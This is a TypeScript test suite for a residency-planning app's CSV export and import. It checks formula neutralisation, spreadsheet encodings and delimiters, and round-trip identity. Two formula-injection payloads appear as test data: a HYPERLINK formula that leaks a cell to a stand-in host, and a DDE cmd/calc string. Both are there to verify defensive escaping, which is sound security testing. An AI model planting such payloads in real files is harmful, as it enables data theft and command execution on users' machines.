// Files that go out to Excel, LibreOffice or Sheets and come back: formula neutralisation, encodings and delimiters
// spreadsheets really save, and export-then-import as an identity for people and programs. Real PostgreSQL.
import { strFromU8, unzipSync } from "fflate";
import { parse } from "csv-parse/sync";
import { beforeEach, describe, expect, it } from "vitest";
import { GET as meExportRoute } from "@/app/api/me/export/route";
import { GET as peopleExportRoute } from "@/app/api/people/export/route";
import { GET as programsExportRoute } from "@/app/api/programs/export/route";
import { GET as planLogRoute } from "@/app/api/plan/log/route";
import { createPerson } from "@/lib/actions/people/create-person";
import { importPeople } from "@/lib/actions/people/import-people";
import { addLogEntry } from "@/lib/actions/plan/add-log-entry";
import { createProgram } from "@/lib/actions/programs/create-program";
import { importPrograms } from "@/lib/actions/programs/import-programs";
import type { ActionResult } from "@/lib/actions/safe-action";
import { db } from "@/lib/db/client";
import type { ImportReport } from "@/lib/server/csv/read-csv";
import { withTestDatabase } from "@/lib/testing/db";
import { createResident, csvUpload } from "@/lib/testing/factories";
import { actAs } from "@/lib/testing/test-session";
import { NextRequest } from "next/server";

withTestDatabase();

function okData<T>(result: ActionResult<T>): T {
  if (!result.ok) throw new Error(`expected success, got ${result.code}: ${result.message} ${JSON.stringify(result.fieldErrors ?? {})}`);
  return result.data;
}

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click me")';
let resident: { id: string };
beforeEach(async () => {
  resident = await createResident();
  actAs(resident.id);
});

/** The body as sent: Response.text() would drop the byte-order mark this test looks for. */
const body = async (res: Response) => new TextDecoder("utf-8", { ignoreBOM: true }).decode(await res.arrayBuffer());
const peopleCsv = async () => body(await peopleExportRoute());
const cells = (csv: string) => parse(csv.replace(/^\uFEFF/, ""), { columns: true }) as Record<string, string>[];
const people = () => db().person.findMany({ where: { residentId: resident.id }, orderBy: { name: "asc" } });

describe("CSV exports", () => {
  it("neutralise cells a spreadsheet would run as formulas, in every export, and start with a UTF-8 BOM", async () => {
    okData(await createPerson({ name: EVIL, role: "ATTENDING", institution: "+1 555 0100", howWeMet: "@channel on Slack", personalNote: "-5 kg since July" }));
    okData(
      await createProgram({
        name: "=1+1",
        institution: "@Hospital",
        programType: "CATEGORICAL",
        participatesInMatch: true,
        visaSponsorship: "J1",
        postInterviewCommunication: "YES",
        status: "APPLIED",
        notes: "-see email",
      }),
    );
    okData(await addLogEntry({ occurredOn: "2026-01-19", action: "=cmd|' /C calc'!A0", service: "Wards" }));

    const exports = {
      people: await peopleCsv(),
      programs: await body(await programsExportRoute()),
      log: await body(await planLogRoute(new NextRequest("http://localhost/api/plan/log"))),
    };
    for (const [name, csv] of Object.entries(exports)) {
      expect(csv.startsWith("\uFEFF"), name).toBe(true);
      for (const row of cells(csv)) for (const value of Object.values(row)) expect(/^[=+\-@\t\r]/.test(value), `${name}: ${value}`).toBe(false);
    }
    expect(cells(exports.people)[0]).toMatchObject({
      name: `'${EVIL}`,
      institution: "'+1 555 0100",
      how_we_met: "'@channel on Slack",
      personal_note: "'-5 kg since July",
    });
    expect(cells(exports.programs)[0]).toMatchObject({ name: "'=1+1", institution: "'@Hospital", notes: "'-see email" });

    const zip = unzipSync(new Uint8Array(await (await meExportRoute()).arrayBuffer()));
    for (const [file, data] of Object.entries(zip).filter(([f]) => f.endsWith(".csv"))) {
      const csv = new TextDecoder("utf-8", { ignoreBOM: true }).decode(data);
      expect(csv.startsWith("\uFEFF"), file).toBe(true);
      for (const row of cells(csv)) for (const value of Object.values(row)) expect(/^[=+\-@\t\r]/.test(value), `${file}: ${value}`).toBe(false);
    }
  });

  it("import takes the neutralising quote off again, so the text survives the round trip", async () => {
    okData(await createPerson({ name: EVIL, role: "ATTENDING", personalNote: "'quoted on purpose" }));
    const csv = await peopleCsv();
    const other = await createResident();
    actAs(other.id);
    okData(await importPeople(csvUpload(csv)));
    const copied = await db().person.findMany({ where: { residentId: other.id } });
    expect(copied.map((p) => [p.name, p.personalNote])).toEqual([[EVIL, "'quoted on purpose"]]);
  });

  it("programs.csv in the account zip has every column the import reads", async () => {
    okData(
      await createProgram({
        name: "Lakeside IM",
        institution: "Lakeside",
        programType: "CATEGORICAL",
        participatesInMatch: false,
        visaSponsorship: "H1B",
        imgFriendly: "YES",
        postInterviewCommunication: "NO",
        status: "APPLIED",
        notes: "Call in March",
      }),
    );
    const zip = unzipSync(new Uint8Array(await (await meExportRoute()).arrayBuffer()));
    const [row] = cells(strFromU8(zip["prelim-scout/programs.csv"]!));
    expect(row).toMatchObject({ participates_in_match: "no", img_friendly: "YES", notes: "Call in March", visa_sponsorship: "H1B" });
  });
});

describe("CSV encodings and delimiters spreadsheets save", () => {
  const header = "name,role,institution";
  const row = "Zoë Núñez,Attending,Hôpital Saint-Éloi";

  it.each([
    ["Excel on Windows, CSV (Comma delimited): Windows-1252", () => win1252(`${header}\r\n${row}\r\n`), "Windows-1252", "comma"],
    [
      "Excel, CSV UTF-8: with a byte-order mark",
      () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(`${header}\n${row}\n`)]),
      "UTF-8 with BOM",
      "comma",
    ],
    [
      "Excel, Unicode text: UTF-16 with a mark, tab separated",
      () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`name\trole\tinstitution\r\n${row.replace(/,/g, "\t")}\r\n`, "utf16le")]),
      "UTF-16 LE",
      "tab",
    ],
    ["European Excel: semicolons", () => Buffer.from(`name;role;institution\n${row.replace(/,/g, ";")}\n`), "UTF-8", "semicolon"],
    ["Sheets and LibreOffice: UTF-8 without a mark", () => Buffer.from(`${header}\n${row}\n`), "UTF-8", "comma"],
  ])("%s", async (_what, bytes, encoding, delimiter) => {
    const preview = okData(await importPeople(csvUpload(bytes(), false))) as ImportReport;
    expect(preview).toMatchObject({ encoding, delimiter, committed: false, added: 1, errors: [] });
    expect(await people()).toEqual([]);
    okData(await importPeople(csvUpload(bytes())));
    expect((await people()).map((p) => [p.name, p.institution])).toEqual([["Zoë Núñez", "Hôpital Saint-Éloi"]]);
  });

  it("names the encoding and delimiter it tried when a file cannot be read", async () => {
    const report = okData(await importPeople(csvUpload('name,role\n"Dr. Unclosed,Attending\n', false)));
    expect(report.errors[0]!.message).toMatch(/read as UTF-8, separated by commas/);
  });
});

/** Windows-1252 bytes for text in its repertoire (accented Latin letters are single bytes there). */
function win1252(text: string): Buffer {
  return Buffer.from([...text].map((c) => c.charCodeAt(0)));
}

describe("export then import is an identity", () => {
  it("for people: a full A-list comes back unchanged, an edited row updates, a new row adds, nothing duplicates", async () => {
    for (let i = 1; i <= 7; i++)
      okData(await createPerson({ name: `Dr. Listed ${i}`, role: "ATTENDING", isAList: true, email: `listed${i}@example.org`, privateNotes: `private ${i}` }));
    okData(await createPerson({ name: "Dr. Not Listed", role: "MENTOR", tags: ["LETTER_WRITER", "KNOWS_PDS"] }));
    const before = await people();
    const csv = await peopleCsv();

    expect(okData(await importPeople(csvUpload(csv, false)))).toMatchObject({ added: 0, updated: 0, unchanged: 8, committed: false, errors: [] });
    expect(okData(await importPeople(csvUpload(csv)))).toMatchObject({ added: 0, updated: 0, unchanged: 8, imported: 0, committed: true });
    expect(await people()).toEqual(before);

    // Edited in a spreadsheet: one renamed (matched by id), one matched by email only, one new row.
    const rows = cells(csv);
    rows[0]!.name = "Dr. Listed One";
    const byEmail = { ...rows[1]!, id: "", department: "Cardiology" };
    const lines = [
      Object.keys(rows[0]!).join(","),
      ...[rows[0]!, byEmail, ...rows.slice(2)].map((r) =>
        Object.values(r)
          .map((v) => `"${v.replace(/"/g, '""')}"`)
          .join(","),
      ),
      `"Dr. Brand New",Attending,,,,,,no,,,`,
    ];
    const preview = okData(await importPeople(csvUpload(lines.join("\n"), false)));
    expect(preview).toMatchObject({ added: 1, updated: 2, unchanged: 6 });
    expect(preview.rows.filter((r) => r.action !== "unchanged").map((r) => [r.action, r.label])).toEqual([
      ["update", "Dr. Listed One"],
      ["update", before[1]!.name],
      ["add", "Dr. Brand New"],
    ]);
    expect(await people()).toEqual(before);
    okData(await importPeople(csvUpload(lines.join("\n"))));
    const after = await people();
    expect(after).toHaveLength(9);
    expect(after.filter((p) => p.isAList)).toHaveLength(7);
    // Private notes are never in a file, so updates keep them.
    expect(after.find((p) => p.name === "Dr. Listed One")?.privateNotes).toBe("private 1");
    expect(after.find((p) => p.email === "listed2@example.org")?.department).toBe("Cardiology");
  });

  it("counts the A-list as it would be after the import", async () => {
    for (let i = 1; i <= 7; i++) okData(await createPerson({ name: `Dr. Full ${i}`, role: "ATTENDING", isAList: true }));
    const rows = cells(await peopleCsv());
    rows[0]!.a_list = "no";
    const csv = ["name,role,a_list,id", ...rows.map((r) => `${r.name},${r.role},${r.a_list},${r.id}`), "Dr. Newcomer,Attending,yes,"].join("\n");
    expect(okData(await importPeople(csvUpload(csv)))).toMatchObject({ added: 1, updated: 1 });
    expect((await people()).filter((p) => p.isAList).map((p) => p.name)).toContain("Dr. Newcomer");
    const result = await importPeople(csvUpload("name,role,a_list\nDr. Eighth,Attending,yes\n"));
    expect(result).toMatchObject({ ok: false, code: "RULE_VIOLATION" });
  });

  it("never updates another resident's person through an id in the file", async () => {
    const theirs = await createResident();
    actAs(theirs.id);
    okData(await createPerson({ name: "Dr. Theirs", role: "ATTENDING" }));
    const csv = await peopleCsv();
    actAs(resident.id);
    expect(okData(await importPeople(csvUpload(csv.replace("Dr. Theirs", "Dr. Renamed"))))).toMatchObject({ added: 1, updated: 0 });
    expect((await db().person.findMany({ where: { residentId: theirs.id } })).map((p) => p.name)).toEqual(["Dr. Theirs"]);
  });

  it("for programs: export, import unchanged, edit by id and by NRMP code", async () => {
    const base = {
      institution: "Lakeside Hospital",
      programType: "CATEGORICAL",
      participatesInMatch: true,
      visaSponsorship: "J1",
      imgFriendly: "YES",
      postInterviewCommunication: "YES",
      status: "APPLIED",
    };
    okData(await createProgram({ ...base, name: "Lakeside IM", nrmpCode: "1234140C0", interviewDate: "2025-11-12", notes: "Ask about research" }));
    okData(await createProgram({ ...base, name: "Hillcrest TY", participatesInMatch: false, imgFriendly: "NO" }));
    const before = await db().program.findMany({ where: { residentId: resident.id }, orderBy: { name: "asc" } });
    const csv = await body(await programsExportRoute());
    expect(okData(await importPrograms(csvUpload(csv)))).toMatchObject({ added: 0, updated: 0, unchanged: 2 });
    expect(await db().program.findMany({ where: { residentId: resident.id }, orderBy: { name: "asc" } })).toEqual(before);

    const edited = `name,institution,nrmp_code,status\nLakeside Internal Medicine,Lakeside Hospital,1234140C0,INTERVIEWED\n`;
    expect(okData(await importPrograms(csvUpload(edited)))).toMatchObject({ added: 0, updated: 1 });
    expect(await db().program.count({ where: { residentId: resident.id } })).toBe(2);
    expect((await db().program.findFirstOrThrow({ where: { residentId: resident.id, nrmpCode: "1234140C0" } })).name).toBe("Lakeside Internal Medicine");
  });
});
